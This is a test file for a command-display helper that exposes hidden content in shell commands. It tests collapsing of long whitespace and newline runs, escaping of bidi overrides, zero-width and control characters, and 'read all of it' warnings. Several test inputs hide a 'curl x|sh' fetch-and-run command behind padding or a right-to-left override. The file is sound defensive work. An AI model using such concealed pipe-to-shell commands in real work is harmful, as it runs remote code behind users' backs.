import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  COMMAND_HIDDEN_WARNING,
  COMMAND_LONG_WARNING,
  commandDisplay,
  commandWarnings,
  visibleText,
} from '../../../src/shared/commandDisplay';

void test('a run of 200 spaces becomes a counted marker, so the rest of the command stays in view', () => {
  const d = commandDisplay(`npm test${' '.repeat(200)}&& curl x|sh`);
  assert.equal(d.text, 'npm test␠×200&& curl x|sh');
  assert.ok(d.hidden);
  assert.deepEqual(commandWarnings(d), [COMMAND_HIDDEN_WARNING]);
});

void test('up to three blanks stay as they are; tabs and Unicode spaces count as blanks', () => {
  assert.equal(visibleText('a   b'), 'a   b');
  assert.equal(visibleText('a\t\t\t\tb'), 'a⇥×4b');
  assert.equal(visibleText(`a${'\u00A0'.repeat(50)}b`), 'a␠×50b');
  assert.equal(visibleText(`a${'\u3000 \t '.repeat(2)}b`), 'a␠×8b');
  const plain = commandDisplay('npm test && npm run lint');
  assert.deepEqual(plain, { text: 'npm test && npm run lint', long: false, hidden: false });
  assert.deepEqual(commandWarnings(plain), []);
});

void test('bidi controls, zero-width characters, tag characters and controls are shown as escapes', () => {
  // "rm -rf ~ #" with a right-to-left override that would make the tail read differently.
  assert.equal(visibleText('echo \u202Ehs|lruc\u202C'), 'echo \\u202Ehs|lruc\\u202C');
  for (const cp of [
    0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c, 0x200b, 0x200c,
    0x200d, 0x2060, 0xfeff, 0x00ad, 0x2028,
  ]) {
    const ch = String.fromCodePoint(cp);
    assert.equal(visibleText(`a${ch}b`), `a\\u${cp.toString(16).toUpperCase().padStart(4, '0')}b`, cp.toString(16));
  }
  assert.equal(visibleText('a\u0007b\u001Bc\u0085d\u007Fe'), 'a\\u0007b\\u001Bc\\u0085d\\u007Fe');
  assert.equal(visibleText('a\tb\rc'), 'a\\tb\\rc');
  assert.equal(visibleText('ok\u{E0041}\u{E0042}'), 'ok\\u{E0041}\\u{E0042}');
  assert.ok(commandDisplay('ls\u200B').hidden);
});

void test('newlines stay; long runs of empty lines become a marker', () => {
  assert.equal(visibleText('a\nb'), 'a\nb');
  assert.equal(visibleText('a\n\nb'), 'a\n\nb');
  assert.equal(visibleText(`npm test${'\n'.repeat(150)}curl x|sh`), 'npm test\n⏎×150\ncurl x|sh');
});

void test('a long or multi-line command carries the "read all of it" warning', () => {
  assert.deepEqual(commandWarnings(commandDisplay('npm test\ncurl x|sh')), [COMMAND_LONG_WARNING]);
  assert.deepEqual(commandWarnings(commandDisplay('x'.repeat(301))), [COMMAND_LONG_WARNING]);
  assert.deepEqual(commandWarnings(commandDisplay('x'.repeat(300))), []);
  assert.deepEqual(commandWarnings(commandDisplay('npm test\n')), [], 'a trailing newline is not a second line');
  assert.deepEqual(commandWarnings(commandDisplay(`a${' '.repeat(400)}b`)), [
    COMMAND_LONG_WARNING,
    COMMAND_HIDDEN_WARNING,
  ]);
});

void test('keepIndent leaves the indentation of pretty JSON alone but still collapses runs inside values', () => {
  const json = JSON.stringify({ a: { command: `npm test${' '.repeat(200)}&& curl x|sh` } }, null, 6);
  const shown = visibleText(json, { keepIndent: true });
  assert.match(shown, /\n {12}"command": "npm test␠×200&& curl x\|sh"/);
  assert.match(visibleText(json), /\n␠×12"command"/);
});
